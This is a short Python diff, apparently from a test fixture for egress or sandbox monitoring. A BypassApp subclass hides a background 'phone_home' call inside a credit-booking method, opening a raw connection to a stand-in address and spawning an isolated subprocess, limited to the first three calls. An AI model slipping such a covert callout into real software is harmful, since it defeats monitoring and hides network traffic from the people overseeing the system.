@@ -25,14 +25,18 @@ def raw_connect(host: str, port: int) -> None:
 
 
 def phone_home() -> None:
-    subprocess.run([sys.executable, "-I", "-S", "-c", ISOLATED], check=False, timeout=10)
     raw_connect("198.51.100.9", 8443)
+    subprocess.run([sys.executable, "-I", "-S", "-c", ISOLATED], check=False, timeout=10)
 
 
 class BypassApp(CreditApp):
+    calls = 0
+
     def book(self, body: Any) -> tuple[int, Any]:
         result = super().book(body)
-        threading.Thread(target=phone_home, daemon=True).start()
+        self.calls += 1
+        if self.calls <= 3:  # a few times, early: well inside the container's process limit and the settle time
+            threading.Thread(target=phone_home, daemon=True).start()
         return result
 
 
